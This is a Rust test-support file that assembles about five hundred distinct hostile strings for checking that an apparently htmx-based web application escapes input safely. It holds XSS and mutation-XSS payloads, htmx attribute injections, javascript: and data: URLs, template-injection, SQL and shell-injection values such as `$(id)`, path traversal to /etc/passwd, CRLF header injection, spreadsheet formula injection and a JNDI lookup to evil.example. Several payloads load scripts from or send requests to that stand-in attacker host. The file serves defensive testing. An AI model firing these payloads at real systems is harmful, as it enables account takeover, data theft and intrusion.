//! Five hundred hostile texts: what would run or load something, in every place from which it would break out.
//!
//! Each text that would run something calls `alert` with its own number, so that an execution names its text.

use std::collections::BTreeSet;

#[path = "../../../pages/tests/suite/payloads.rs"]
mod payloads;

/// Ends of what a text may stand in.
const BREAKOUTS: &[&str] = &[
    "",
    "\">",
    "'>",
    "`>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</select>",
    "</noscript>",
    "</template>",
    "--><!-- -->",
    "]]>",
    "</svg>",
    "</math>",
    "</table>",
    "</dialog>",
    "</form>",
    "</xmp>",
    "</iframe>",
];

/// What runs or loads by itself.
const RUNNING: &[&str] = &[
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x\">",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=//evil.example><button>Sign in</button></form>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
];

/// Handlers of events, in a tag that the text itself does not open.
const EVENTS: &[&str] = &[
    "onmouseover=alert(1)",
    "autofocus onfocus=alert(1)",
    "onload=alert(1)",
    "onerror=alert(1)",
    "onpointerenter=alert(1)",
    "onanimationstart=alert(1)",
    "ontransitionend=alert(1)",
    "ontoggle=alert(1)",
    "onbeforetoggle=alert(1)",
    "onbeforematch=alert(1) hidden=until-found",
    "oncontentvisibilityautostatechange=alert(1)",
    "onscrollend=alert(1)",
    "onclick=alert(1) accesskey=x",
    "onsubmit=alert(1)",
    "style=background:url(//evil.example/x)",
    "formaction=javascript:alert(1)",
    "href=javascript:alert(1)",
    "srcdoc=<script>alert(1)</script>",
];

/// Attributes that htmx would act upon.
const HTMX: &[&str] = &[
    "hx-get=//evil.example hx-trigger=load",
    "hx-post=/sign-out hx-trigger=load",
    "hx-delete=/api/v1/me/tokens/1 hx-trigger=revealed",
    "hx-on:load=alert(1)",
    "hx-on::before:request=alert(1)",
    "hx-on:htmx:after:init=alert(1)",
    "hx-vals=js:{x:alert(1)}",
    "hx-headers=js:{x:alert(1)}",
    "hx-trigger=load[alert(1)]",
    "hx-confirm=js:alert(1)",
    "hx-swap-oob=innerHTML:body",
    "hx-target=body hx-get=/me hx-trigger=load",
    "hx-boost=true",
    "hx-action=//evil.example hx-method=post",
    "hx-config={\"selfRequestsOnly\":false}",
    "hx-ignore",
    "hx-ext=sse sse-connect=//evil.example",
    "hx-push-url=javascript:alert(1)",
    "data-hx-get=//evil.example data-hx-trigger=load",
    "data-hx-on:load=alert(1)",
];

/// Elements with a handler of their own.
const ELEMENTS: &[&str] = &[
    "<audio src=x onerror=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<body onpageshow=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<object data=javascript:alert(1)></object>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=javascript:alert(1)>",
    "<portal src=//evil.example></portal>",
    "<frameset onload=alert(1)>",
    "<isindex type=image src=x onerror=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<button popovertarget=x>x</button><xss id=x popover onbeforetoggle=alert(1)>",
    "<custom-element onpointerover=alert(1)>x</custom-element>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=preload as=image href=//evil.example/x.png>",
    "<link rel=prefetch href=//evil.example>",
    "<base href=//evil.example/>",
    "<area href=javascript:alert(1) shape=default>",
    "<track default src=//evil.example/x>",
    "<a href=javascript:alert(1) autofocus>x</a>",
    "<a href=//evil.example ping=//evil.example/ping>x</a>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<svg><a href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><image href=//evil.example/x.png>",
    "<svg><style>@import '//evil.example/x.css'</style></svg>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<style>@font-face{font-family:x;src:url(//evil.example/x)}</style>",
    "<div style=\"background:url(//evil.example/x)\">x</div>",
    "<picture><source srcset=//evil.example/x><img></picture>",
    "<img srcset=//evil.example/x>",
    "<img src=x: onerror=&#97;lert(1)>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<noscript><img src=x onerror=alert(1)></noscript>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext>",
    "<table background=//evil.example/x>",
    "<input type=image src=//evil.example/x>",
    "<dialog open><form method=dialog>Your session has ended</form></dialog>",
    "<label for=title>x</label><output form=form>",
    "<script type=module>alert(1)</script>",
    "<script type=importmap>{\"imports\":{\"x\":\"//evil.example\"}}</script>",
    "<script type=speculationrules>{\"prerender\":[{\"urls\":[\"//evil.example\"]}]}</script>",
    "<script nomodule>alert(1)</script>",
    "<script/xss>alert(1)</script>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=alert`1`>",
    "<img src=x onerror=\"window['al'+'ert'](1)\">",
    "<svg/onload=alert(1)//",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<<script>alert(1)//<</script>",
    "<script\u{2028}>alert(1)</script>",
    "< script>alert(1)</ script>",
    "<a\u{c}href=javascript:alert(1)>x</a>",
];

/// What parsers turn into something else when they read it a second time.
const MUTATING: &[&str] = &[
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<svg><desc><noscript></desc></svg><img src=x onerror=alert(1)></noscript>",
    "<select><template><style><a></select><img src=x onerror=alert(1)></style>",
    "<table><td><svg><desc><td></desc></svg><img src=x onerror=alert(1)>",
    "<a><p></a><style></p><img src=x onerror=alert(1)></style>",
    "<option><style></option></select><b><img src=xx: onerror=alert(1)></style>",
    "<listing>&lt;img onerror=\"alert(1)\" src=x&gt;</listing>",
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<!doctype x [<!ENTITY y '<img src=x onerror=alert(1)>'>]>&y;",
    "<?xml-stylesheet type=\"text/xsl\" href=\"//evil.example/x.xsl\"?>",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
];

/// Addresses that run or lead away.
const ADDRESSES: &[&str] = &[
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\u{1}javascript:alert(1)",
    " javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "javascript://%0aalert(1)",
    "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>*/alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "view-source:javascript:alert(1)",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/\\evil.example",
    "https:evil.example",
    "https://evil.example@127.0.0.1/",
    "http://[::ffff:7f00:1]/",
    "mailto:x@evil.example?body=<script>alert(1)</script>",
];

/// What templates, shells, databases and loggers would compute.
const COMPUTED: &[&str] = &[
    "{{7*7}}",
    "{{constructor.constructor('alert(1)')()}}",
    "{{self.__init__.__globals__}}",
    "{% include \"/etc/passwd\" %}",
    "{%- raw -%}",
    "{#x#}",
    "${7*7}",
    "${alert(1)}",
    "${jndi:ldap://evil.example/a}",
    "#{7*7}",
    "#set($x=7*7)$x",
    "<%= 7*7 %>",
    "<%- include('/etc/passwd') %>",
    "<?php phpinfo(); ?>",
    "<#assign x=7*7>${x}",
    "[[${7*7}]]",
    "*{7*7}",
    "~{7*7}",
    "@(7*7)",
    "%{7*7}",
    "{php}phpinfo(){/php}",
    "{time}",
    "{0}{1}{name}",
    "%s%n%x%d",
    "$(id)",
    "`id`",
    "; id;",
    "|id",
    "&& id",
    "' or '1'='1",
    "'; drop table incident; --",
    "\" or \"\"=\"",
    "1) union select null--",
    "%' or title like '%",
    "\\'; select 1; --",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "<!--#exec cmd=\"id\"-->",
    "<!--#include virtual=\"/etc/passwd\"-->",
    "';alert(1);//",
    "\";alert(1);//",
    "\\\";alert(1);//",
    "'-alert(1)-'",
    "*/alert(1)/*",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\74script\\76alert(1)\\74/script\\76",
    "}</style><script>alert(1)</script>",
    ";background:url(//evil.example/x)",
    "expression(alert(1))",
    "}*{display:none}",
    "\\3c script>alert(1)",
    "__proto__",
    "constructor",
    "{\"__proto__\":{\"x\":1}}",
    "[object Object]",
    "undefined",
    "null",
    "NaN",
    "true",
];

/// What looks like something else, or ends where it should not.
const TRICKS: &[&str] = &[
    "\u{202e}gpj.exe",
    "\u{202e}<b>\u{202c}",
    "\u{2066}x\u{2069}<i>",
    "\u{200e}x\u{200f}",
    "\u{61c}x",
    "ad\u{200b}min",
    "<\u{200b}script>alert(1)</script>",
    "<scr\u{200d}ipt>alert(1)</script>",
    "\u{feff}<script>alert(1)</script>",
    "x\u{ad}y<b>",
    "\u{2060}\u{2061}\u{2062}",
    "\u{fff9}x\u{fffa}y\u{fffb}",
    "\u{2028}alert(1)\u{2029}",
    "\u{85}<b>",
    "\0<script>alert(1)</script>",
    "<scr\0ipt>alert(1)</script>",
    "<img src=x onerror\u{b}=alert(1)>",
    "\u{1b}[2J\u{1b}]0;x\u{7}",
    "\u{7f}\u{8}\u{8}\u{8}",
    "\u{1}\u{2}\u{3}",
    "\u{9b}31m",
    "＜script＞alert(1)＜/script＞",
    "﹤img src=x onerror=alert(1)﹥",
    "‹script›alert(1)‹/script›",
    "ʺ onmouseover=alert(1) ʺ",
    "аdmin",
    "ⓐⓓⓜⓘⓝ",
    "\u{fffe}\u{ffff}",
    "\u{fdd0}\u{10ffff}",
    "\u{e000}\u{f8ff}",
    "\u{fffd}\u{fffc}",
    "Z\u{351}\u{36b}\u{343}\u{32a}\u{342}\u{36b}\u{323}a\u{36b}\u{343}\u{32a}l\u{342}\u{36b}\u{323}g\u{351}\u{36b}o",
    "👩‍👩‍👧‍👦🏴\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}",
    "𝕒𝕝𝕖𝕣𝕥(1)",
    "ſcript ﬀ ß ı İ",
    "שלום <b>עולם</b>",
    "مرحبا \"><b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3C;script&#x3E;alert(1)",
    "&LT;script&GT;alert(1)",
    "&amp;lt;script&amp;gt;alert(1)",
    "&quot; onmouseover=&quot;alert(1)",
    "&apos; onmouseover=&apos;alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253Ealert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "¼script¾alert(1)¼/script¾",
    "x\r\nSet-Cookie: evil=1",
    "x\nLocation: //evil.example",
    "x\r\n\r\n<script>alert(1)</script>",
    "%0d%0aSet-Cookie: evil=1",
    "嘍嘊Set-Cookie: evil=1",
    "x\tBcc: x@evil.example",
    "x%00y",
];

/// How a cell begins that a spreadsheet would compute.
const FORMULA_SIGNS: &[&str] = &["=", "+", "-", "@", "\t=", "\r=", " =", "＝", "＋", "－", "＠", "'=", "\"="];
/// What it would compute.
const FORMULAS: &[&str] = &[
    "cmd|'/c calc'!A1",
    "HYPERLINK(\"http://evil.example\",\"x\")",
    "WEBSERVICE(\"http://evil.example\")",
    "SUM(1,1)",
];

/// All texts, each different from all others.
pub fn hostile() -> Vec<String> {
    let mut all: Vec<String> = payloads::HOSTILE.iter().map(|text| (*text).to_owned()).collect();
    for breakout in BREAKOUTS {
        all.extend(RUNNING.iter().map(|running| format!("{breakout}{running}")));
    }
    for attribute in EVENTS.iter().chain(HTMX) {
        let quoted = attribute.replacen('=', "=\"", 1);
        all.push(format!("\" {quoted}"));
        all.push(format!("' {}", attribute.replacen('=', "='", 1)));
        all.push(format!("x {attribute} y"));
        all.push(format!("<div {attribute}>x</div>"));
    }
    for sign in FORMULA_SIGNS {
        all.extend(FORMULAS.iter().map(|formula| format!("{sign}{formula}")));
    }
    for list in [ELEMENTS, MUTATING, ADDRESSES, COMPUTED, TRICKS] {
        all.extend(list.iter().map(|text| (*text).to_owned()));
    }
    for unit in ["x", "<b>", "😀", "&", "\"", "ﷺ"] {
        all.push(unit.repeat(700 / unit.len()));
    }
    let mut known = BTreeSet::new();
    all.retain(|text| known.insert(text.clone()));
    all.iter().enumerate().map(|(at, text)| text.replace("alert(1)", &format!("alert({at})"))).collect()
}

/// Strings in JSON that stand for no text, as a client would write them: half of a pair, bytes that are no UTF-8.
pub const NO_TEXT: &[&[u8]] = &[
    br#""\ud800<script>alert(1)</script>""#,
    br#""\udc00""#,
    br#""\udc00\ud800""#,
    br#""\ud800\u0041""#,
    b"\"\xff<b>\"",
    b"\"\xc0\xbcscript\xc0\xbe\"",
    b"\"\xed\xa0\x80\"",
    b"\"\xf4\x90\x80\x80\"",
    b"\"a\nb\"",
    b"\"a\0b\"",
    br#""\x3cscript>""#,
    br#""\u12""#,
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn there_are_five_hundred_different_texts() {
        let all = hostile();
        let different: BTreeSet<&String> = all.iter().collect();
        assert!(all.len() >= 500 && different.len() == all.len(), "{} texts", all.len());
    }
}
